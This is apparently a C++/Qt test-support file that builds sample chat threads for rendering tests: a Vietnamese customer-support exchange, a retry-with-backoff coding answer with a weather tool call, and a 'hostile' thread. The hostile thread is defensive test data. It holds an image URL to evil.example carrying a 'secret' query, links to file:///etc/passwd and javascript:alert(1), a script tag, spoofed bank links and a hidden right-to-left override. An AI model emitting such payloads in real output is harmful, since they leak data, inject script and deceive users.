#include "tests/support/threadsamples.h"

using namespace Qt::Literals::StringLiterals;
using Core::Message;
using Core::MessageStatus;
using Core::Role;

namespace ThreadSamples {

QList<Message> support()
{
    QList<Message> thread;
    thread += message(u"s1"_s, Role::System,
                      u"You are a support agent of Northwind Outfitters. Answer in the customer's "
                      "language. Never promise a refund above **$200** without asking."_s);
    thread +=
        message(u"s2"_s, Role::User,
                u"Xin chào, tôi đặt đơn hàng #48213 hôm thứ Hai nhưng đến giờ vẫn chưa nhận được. "
                "Tôi muốn đổi trả hoặc hoàn tiền, cảm ơn.\n\nNguyễn Thị Phương Thảo"_s,
                1);
    thread += message(
        u"s3"_s, Role::Assistant,
        u"Chào chị Thảo, rất xin lỗi chị vì sự chậm trễ. Đơn hàng **#48213** đang ở kho trung "
        u"chuyển "
        "Đà Nẵng.\n\nChị có ba lựa chọn:\n\n1. **Chờ giao tiếp**: dự kiến *thứ Sáu*, "
        "miễn phí vận chuyển.\n2. **Đổi sản phẩm**: chọn màu hoặc cỡ khác, xem "
        "[bảng kích cỡ](https://northwind.example/size?lang=vi).\n3. **Hoàn tiền**: 3–5 ngày làm "
        "việc.\n\n| Mặt hàng | Số lượng | Đơn giá | Thành tiền |\n|:--|:-:|--:|--:|\n"
        "| Áo khoác gió chống nước | 1 | 890.000 ₫ | 890.000 ₫ |\n| Tất leo núi | 3 | 75.000 ₫ | "
        "225.000 ₫ |\n| **Tổng cộng** | | | **1.115.000 ₫** |\n\n> Theo chính sách, đơn trên "
        "200 $ cần trưởng nhóm duyệt.\n\nChị muốn chọn cách nào ạ?"_s,
        2);
    thread.last().model = u"gpt-4o-mini"_s;
    thread += message(u"s4"_s, Role::User, u"Hoàn tiền giúp tôi nhé 🙏"_s, 9);
    thread += message(u"s5"_s, Role::Assistant,
                      u"Vâng ạ. Em đã tạo yêu cầu `RF-20261120-48213` và"_s, 10);
    thread.last().status = MessageStatus::Interrupted;
    thread.last().model = u"gpt-4o-mini"_s;
    return thread;
}

QList<Message> engineering()
{
    QList<Message> thread;
    thread +=
        message(u"e1"_s, Role::User,
                u"Write a function that retries with *exponential backoff*, in Python and C++. "
                "Keep `Retry-After` in mind."_s);
    thread += message(
        u"e2"_s, Role::Assistant,
        u"# Retrying politely\n\nThe wait doubles each time and is **jittered**, so that clients "
        u"do "
        "not come back together.\n\n## Python\n\n```python\nimport random, time\n\n\n"
        "def retry(call, attempts: int = 5, base: float = 0.5):\n    \"\"\"Calls until it works or "
        "`attempts` are used up.\"\"\"\n    for n in range(attempts):\n        try:\n            "
        "return "
        "call()\n        except Unavailable as error:  # 429 and 5xx\n            if n + 1 == "
        "attempts:\n                raise\n            wait = error.retry_after or base * 2 ** n\n"
        "            time.sleep(wait + random.uniform(0, wait / 4))\n```\n\n## C++\n\n```cpp\n"
        "/* The clock is handed in, so that tests need not wait. */\ntemplate <typename Call>\n"
        "Result<Reply> retry(Call call, Clock &clock, int attempts = 5)\n{\n    for (int n = 0; n "
        "< "
        "attempts; ++n) {\n        auto reply = call();\n        if (reply || "
        "!mayRetry(reply.error()))"
        "\n            return reply;\n        clock.wait(500ms * (1 << n)); // \"base\" doubled\n  "
        "  "
        "}\n    return Error{Kind::TimedOut, \"gave up\"};\n}\n```\n\n### What to watch\n\n- The "
        "provider's own wait wins\n  - as seconds: `Retry-After: 7`\n  - as a date\n- ~~Retry "
        "everything~~ only what is *safe* to repeat\n- [x] tested\n- [ ] documented\n\n---\n\nSee "
        "<https://example.com/backoff> or write to ops@example.com."_s,
        1);
    thread.last().model = u"claude-sonnet"_s;
    thread.last().reasoning = u"The person wants two languages. I should keep both short."_s;
    thread += message(u"e3"_s, Role::User, u"What is the weather in Hà Nội? Use the tool."_s, 2);
    thread += message(u"e4"_s, Role::Assistant, {}, 3);
    thread.last().toolCalls = {{u"call_1"_s, u"get_weather"_s,
                                u"{\"city\": \"Hà Nội\", \"days\": 3, \"metric\": true}"_s}};
    thread += message(u"e5"_s, Role::Tool,
                      u"{\n  \"now\": 24.5,\n  \"sky\": \"mây\",\n  \"rain\": null\n}"_s, 3);
    thread +=
        message(u"e6"_s, Role::Assistant,
                u"It is 24.5 °C and cloudy.\n\n```sql\nSELECT day, max(temp) -- per day\nFROM "
                "weather WHERE city = 'Hà Nội' GROUP BY day LIMIT 3;\n```\n\n```html\n<a "
                "href=\"https://example.com\">More</a> <!-- later -->\n```"_s,
                4);
    thread.last().status = MessageStatus::Truncated;
    return thread;
}

QList<Message> hostile()
{
    QList<Message> thread;
    thread += message(
        u"h1"_s, Role::Assistant,
        u"![a](/dev/zero) ![b](file:///etc/passwd) ![c](http://evil.example/x.png?q=secret) "
        "![d](data:image/png;base64,AAAA) ![e](relative.png) ![f](qrc:/x.png)\n\n"
        "[click](javascript:alert(1)) [run](file:///bin/sh) [good](https://example.com) "
        "[fake](https://bank.example@evil.example/) [bank.example](https://evil.example/)\n\n"
        "<img src=\"/dev/zero\"><script>alert(1)</script> <b>bold?</b>\n\n"_s
            + QString(3000, u'W') + u"\n\n`"_s + QString(300, u'x') + u"`"_s);
    thread += message(u"h2"_s, Role::Assistant,
                      u"> "_s.repeated(60) + u"deep\n\n"_s + u"- "_s.repeated(40) + u"deeper\n\n"_s
                          + u"```\nhidden \u202e tcejni \u0007 bell\n```\n"_s);
    QString wide = u"|"_s;
    QString rule = u"|"_s;
    QString cells = u"|"_s;
    for (int i = 0; i < 12; ++i) {
        wide += u"Heading %1|"_s.arg(i);
        rule += u"---|"_s;
        cells += u"some value %1|"_s.arg(i * 1234567);
    }
    thread +=
        message(u"h3"_s, Role::Assistant, wide + u'\n' + rule + u'\n' + cells + u'\n' + cells);
    return thread;
}

QList<Message> many(int count)
{
    QList<Message> thread;
    thread.reserve(count);
    for (int i = 0; i < count; ++i) {
        const Role role = i % 2 == 0 ? Role::User : Role::Assistant;
        const QString text = u"Message %1. "_s.arg(i)
            + u"Some words that fill a line or two. "_s.repeated(i * 7 % 23);
        thread += message(u"m%1"_s.arg(i), role, text, i);
    }
    return thread;
}

} // namespace ThreadSamples
